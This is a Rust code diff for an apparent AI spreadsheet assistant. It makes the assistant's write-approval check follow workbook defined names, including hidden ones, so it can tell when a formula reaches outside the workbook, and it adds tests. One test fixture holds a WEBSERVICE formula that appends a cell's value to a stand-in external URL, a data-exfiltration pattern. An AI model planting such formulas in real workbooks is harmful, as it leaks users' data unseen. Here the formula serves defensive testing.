@@ -3,7 +3,9 @@
 
 use deskhand_core::tool::{Ask, AskReason};
 use deskhand_formula::risk;
-use deskhand_protocol::operations::answer::{DeckContent, RangeContent, SlideContent, WorkbookContent};
+use deskhand_protocol::operations::answer::{
+    DeckContent, DefinedName, RangeContent, SlideContent, WorkbookContent,
+};
 use deskhand_protocol::operations::deck::{DeckInfo, SlideExport, SlideRead};
 use deskhand_protocol::operations::workbook::{RangeFacet, RangeRead, RangeWrite, WorkbookInfo};
 use deskhand_protocol::operations::{
@@ -16,6 +18,8 @@ use crate::grid::{cell, intended, place, same, shown, written_area};
 
 /// Rows that a question shows at the most.
 const MAX_ROWS: usize = 200;
+/// Characters of a content that a row shows.
+const MAX_SHOWN: usize = 1_000;
 /// Risk notes that a question shows at the most.
 const MAX_RISKS: usize = 20;
 
@@ -124,12 +128,29 @@ pub(crate) fn slide_in(answer: Answer) -> Option<SlideContent> {
     }
 }
 
-/// The question for a write, when cells that are not empty would change or a formula reaches outside. `own` tells
-/// whether a cell still holds what this session wrote there: that is nobody's work to lose.
+/// What a defined name refers to, in any case and scope: of several by one name all count, joined as a formula would.
+pub(crate) fn named<'a>(workbook: &'a WorkbookContent) -> impl Fn(&str) -> Option<String> + 'a {
+    |wanted| {
+        let wanted = wanted.to_lowercase();
+        let of_it = |name: &&DefinedName| name.name.to_lowercase() == wanted;
+        let meanings: Vec<&str> = workbook
+            .names
+            .iter()
+            .filter(of_it)
+            .map(|name| name.refers_to.as_str())
+            .collect();
+        (!meanings.is_empty()).then(|| meanings.join(","))
+    }
+}
+
+/// The question for a write, when cells that are not empty would change or a formula reaches outside, through the
+/// `names` of its workbook or by itself. `own` tells whether a cell still holds what this session wrote there: that is
+/// nobody's work to lose.
 pub(crate) fn ask_write(
     sheet: &str,
     area: Area,
     write: &RangeWrite,
+    names: &dyn Fn(&str) -> Option<String>,
     before: &RangeContent,
     own: &dyn Fn(u32, u32, &CellValue) -> bool,
 ) -> Option<Ask> {
@@ -141,7 +162,9 @@ pub(crate) fn ask_write(
             let Some(after) = intended(input) else { continue };
             let now = cell(before.formulas.as_ref(), row, column);
             let at = Area::cell(area.top + row as u32, area.left + column as u32);
-            if let Some(reason) = input.formula().and_then(risk::outside_reach)
+            if let Some(reason) = input
+                .formula()
+                .and_then(|formula| risk::outside_reach_with(formula, names))
                 && risks.len() < MAX_RISKS
             {
                 risks.push(RiskNote {
@@ -181,6 +204,15 @@ pub(crate) fn ask_write(
     })
 }
 
+/// A content as a row of a question holds it: all rows together must fit into one event of the log.
+pub(crate) fn short(text: String) -> String {
+    if text.chars().count() <= MAX_SHOWN {
+        text
+    } else {
+        text.chars().take(MAX_SHOWN).chain("…".chars()).collect()
+    }
+}
+
 /// The rule in the note about formulas that reach outside.
 const OUTSIDE_RULE: &str = "Formulas that reach outside this workbook ask every time.";
 
@@ -200,9 +232,9 @@ fn line_of(
     BeforeAfter {
         cell: at.to_string(),
         label,
-        now: shown(now),
+        now: short(shown(now)),
         formula: after.starts_with('='),
-        after,
+        after: short(after),
     }
 }
 
@@ -323,5 +355,80 @@ pub(crate) fn title_of(operation: &Operation) -> String {
                 "Read".to_owned()
             }
         },
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use deskhand_protocol::operations::CellInput;
+
+    use super::*;
+
+    fn ask(formula: &str, names: &[(&str, &str, bool)]) -> Option<Ask> {
+        let write = RangeWrite {
+            range: "Data!A1".to_owned(),
+            cells: vec![vec![CellInput::Text(formula.to_owned())]],
+            sources: Vec::new(),
+        };
+        let defined = |(name, refers_to, hidden): &(&str, &str, bool)| DefinedName {
+            name: (*name).to_owned(),
+            refers_to: (*refers_to).to_owned(),
+            hidden: *hidden,
+        };
+        let workbook = WorkbookContent {
+            names: names.iter().map(defined).collect(),
+            ..WorkbookContent::default()
+        };
+        let before = RangeContent::default();
+        ask_write(
+            "Data",
+            Area::cell(0, 0),
+            &write,
+            &named(&workbook),
+            &before,
+            &|_, _, _| false,
+        )
+    }
+
+    #[test]
+    fn a_formula_that_reaches_outside_through_a_name_is_asked_about() {
+        let web = ("Rate", "WEBSERVICE(\"https://x.example/?\"&Data!$A$1)", false);
+        let hidden = ("rate", "WEBSERVICE(\"https://x.example/\")", true);
+        let harmless = ("Rate", "Data!$B$1", false);
+        for names in [
+            vec![web],
+            vec![hidden],
+            vec![harmless, hidden],
+            vec![("Rate", "Inner", false), ("Inner", web.1, true)],
+        ] {
+            let asked = ask("=RATE*2", &names).unwrap_or_else(|| panic!("nobody is asked: {names:?}"));
+            assert_eq!(
+                (asked.reason, asked.risks.len()),
+                (AskReason::ReachesOutside, 1),
+                "{names:?}"
+            );
+        }
+        assert_eq!(ask("=Rate*2", &[harmless]), None);
+    }
+
+    #[test]
+    fn a_question_about_the_longest_texts_fits_into_an_event() {
+        let long = CellValue::Text("\u{1}".repeat(32_767));
+        let write = RangeWrite {
+            range: "Data!A1".to_owned(),
+            cells: vec![vec![CellInput::Text("y".repeat(32_767))]; 300],
+            sources: Vec::new(),
+        };
+        let before = RangeContent {
+            values: Some(vec![vec![long.clone()]; 300]),
+            formulas: Some(vec![vec![long]; 300]),
+            ..RangeContent::default()
+        };
+        let area = Area::of_size(0, 0, 300, 1).expect("an area");
+        let asked =
+            ask_write("Data", area, &write, &|_| None, &before, &|_, _, _| false).expect("a question");
+        assert_eq!((asked.total, asked.rows.len()), (300, MAX_ROWS));
+        let kept = serde_json::to_vec(&asked.rows).expect("JSON").len();
+        assert!(kept < 3 << 20, "{kept}");
     }
 }
